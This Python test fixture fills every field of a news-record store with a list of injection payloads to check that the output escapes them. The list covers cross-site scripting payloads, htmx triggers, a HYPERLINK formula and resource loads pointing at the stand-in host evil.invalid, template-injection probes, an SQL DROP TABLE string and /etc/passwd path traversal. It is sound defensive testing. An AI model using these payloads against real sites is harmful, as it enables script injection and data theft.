"""Hostile words for every field of a record, and a record that has them in all of its fields."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from reports import Report, reconciled
from summitry.errors import Skipped
from summitry.model import Correction, Reconciled, Role, content_id
from summitry.record import Store

#: What each payload tries to do where it is not escaped: to run this, or to ask this address.
_RUN = "window.__hit=1"
_OUT = "//evil.invalid/x"
PAYLOADS: tuple[str, ...] = (
    # elements
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_OUT}.js></script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_OUT}.png>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data={_OUT}></object>",
    f"<embed src={_OUT}>",
    f"<link rel=stylesheet href={_OUT}.css>",
    f"<style>@import '{_OUT}.css'</style>",
    f"<base href={_OUT}>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<form action={_OUT}><input name=token></form>",
    f"<button formaction='javascript:{_RUN}'>x</button>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src={_OUT} onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<textarea></textarea><script>{_RUN}</script>",
    f"<title></title><script>{_RUN}</script>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<div style=background:url({_OUT})>x</div>",
    "<div hx-get='/enter' hx-trigger=load>x</div>",
    f"<div hx-on:load='{_RUN}' data-hx-get='{_OUT}' data-hx-trigger=load>x</div>",
    "<div hx-vals='js:{a:window.__hit=1}' hx-trigger=load hx-get=/today>x</div>",
    # attributes
    f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}' autofocus='",
    f'" autofocus onfocus={_RUN} x="',
    f"` onerror={_RUN} `",
    f'x" style="background:url({_OUT})',
    f'" hx-get="{_OUT}" hx-trigger="load',
    # addresses
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f" javascript:{_RUN}",
    f"data:text/html;base64,PHNjcmlwdD4{_RUN}",
    f"vbscript:{_RUN}",
    f'https://evil.invalid/"onclick="{_RUN}',
    "https://[::1",
    "file:///etc/passwd",
    # templates, other languages' quotes, what is turned
    "{{ 7 * 7 }}{% raw %}{{ request.app }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{config}}{{''.__class__.__mro__}}",
    "\u202egnp.exe <script>window.__hit=1</script>\u202c",
    "\u2067right\u2066 \u200f<b onclick=window.__hit=1>",
    "\u0000\u0001\u0008<img src=x onerror=window.__hit=1>",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "&#60;script&#62;window.__hit=1&#60;/script&#62;",
    "+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-",
    "\x02mark\x03<script>window.__hit=1</script>\x03\x02",
    '=HYPERLINK("http://evil.invalid/","x")',
    "'; DROP TABLE document; --",
    "../../../../etc/passwd",
    "]]>--></style></textarea></title>",
    "W" * 2_000 + f"<script>{_RUN}</script>",
)  # fmt: skip


def _report(number: int, payload: str) -> Report:
    """A report with a payload in each of its fields, told of a meeting and in a quote."""
    told = f"{payload} met Bo Lind in Oslo. “{payload},” she told {payload}. Three {payload} left."
    report = Report(told, locator=f"{payload[:180]}-{number}.txt", published="2031-05-03", outlet=payload)
    known = {"title": payload, "agency": payload, "authors": (payload, "Ida"), "url": payload, "published_why": payload}
    report.document = type(report.document).of(
        told, locator=report.document.locator, outlet=payload, published="2031-05-03", published_from="stated", **known
    )  # fmt: skip
    role = Role(
        office=payload, organisation=payload, document=report.document.id, start=0, end=len(payload), text=payload
    )
    one = report.actor(payload, names=(payload, "Ana"), roles=(role,), country="NOR")
    two = report.actor("Bo Lind", country="SWE")
    report.claim("encounter", told[: len(payload) + 20], ("party", one, payload), ("party", two), ("place", payload), ("venue", payload, payload), ("time", "2031-05-02"), ("format", "meeting"))  # fmt: skip
    report.claim("quote", f"“{payload},”", ("speaker", one, payload), ("content", payload, payload), ("form", "direct"), ("cue", payload), ("addressee", payload), ("setting", payload), holders=(payload,))  # fmt: skip
    report.claim("stance", told, ("actor", one, payload), ("attitude", "wants"), ("issue", payload, payload))
    report.claim("gap", told[:-1], ("what", payload, payload))
    report.claim("outlook", told, ("what", payload), ("time", "2032-01"))
    report.claim("figure", told, ("what", payload), ("min", "3"), ("max", "3"), ("unit", payload), ("role", "count"))
    report.claim("measure", told, ("what", payload), ("body", payload), ("status", "proposed"))
    report.claim("role", told, ("person", one), ("office", payload, payload))
    return report


def filled(path: Path) -> Store:
    """A record with every payload in every field, corrections and what was left out included; and a word of a megabyte."""
    store = Store.open(path)
    reports = [_report(number, payload) for number, payload in enumerate(PAYLOADS)]
    reports.append(
        Report(f"{'W' * 1_000_000} met Bo Lind. <script>{_RUN}</script>", locator="w.txt", outlet="W" * 1_000_000)
    )
    for number, (report, payload) in enumerate(zip(reports, (*PAYLOADS, "w"), strict=True)):
        store.add(report.reading())
        store.skip(Skipped(f"{payload}-{number}", "read", "empty", payload))
    store.correct([_correction(n, r, p) for n, (r, p) in enumerate(zip(reports, PAYLOADS, strict=False))])
    store.write(_with_ids(reconciled(*reports, apart=True)))
    return store


def _with_ids(made: Reconciled) -> Reconciled:
    """With ids of stories as reconciling gives them."""
    ids = {story.id: content_id("s", story.id) for story in made.stories}
    stories = tuple(
        replace(story, id=ids[story.id], title=PAYLOADS[n % len(PAYLOADS)]) for n, story in enumerate(made.stories)
    )
    return replace(made, stories=stories, entries=tuple(replace(e, story=ids.get(e.story or "")) for e in made.entries))


def _correction(number: int, report: Report, payload: str) -> Correction:
    sides = tuple((claim.id,) for claim in report.claims if claim.kind == "gap")
    at = f"2031-06-01T10:00:00.{number:03}Z"
    return Correction.of("wrong", sides, named=(payload,), because=payload, author=payload.strip() or "Ida", at=at)
